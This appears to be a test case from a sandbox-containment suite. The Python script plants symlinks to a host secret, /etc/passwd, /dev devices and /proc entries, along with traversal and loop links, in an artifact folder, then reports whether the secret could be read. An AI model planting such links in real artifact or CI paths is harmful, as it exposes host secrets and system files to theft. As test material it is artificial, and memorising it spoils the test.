# name: artifact-symlinks
# area: races
# about: Leaves links to the host's secret, to devices and to /proc where artifacts are collected.
# expect: contained
# canary: ATTACK_HOST_SECRET_PATH

import os
import sys

secret = os.environ.get("ATTACK_HOST_SECRET_PATH") or sys.exit(2)
# Collected from outside, a followed link would be read with the host's eyes.
targets = {"secret.txt": secret, "up.txt": "../" * 40 + secret.lstrip("/"), "passwd": "/etc/passwd",
           "zero.bin": "/dev/zero", "random.bin": "/dev/urandom", "tty": "/dev/tty",
           "proc-mem": "/proc/self/mem", "proc-root": "/proc/self/root", "exe": "/proc/self/exe",
           "loop-a": "loop-b", "loop-b": "loop-a", "self": "self", "root-dir": "/", "host-etc": "/etc",
           "dangling": "/nonexistent/" + "x" * 200, "proc": "/proc", "fd": "/proc/self/fd",
           "secret-dir": os.path.dirname(secret)}
os.makedirs("links/deeper", exist_ok=True)
made = 0
for folder in (".", "links", "links/deeper"):
    for name, target in targets.items():
        path = os.path.join(folder, name)
        if not os.path.lexists(path):
            os.symlink(target, path)
            made += 1
with open("links/plain.txt", "w") as file:
    file.write("an honest artifact\n")
try:
    with open("secret.txt") as file:
        print(f"ESCAPED read {len(file.read())} bytes of the secret through a link")
except OSError:
    print(f"BLOCKED left {made} links for the collector")
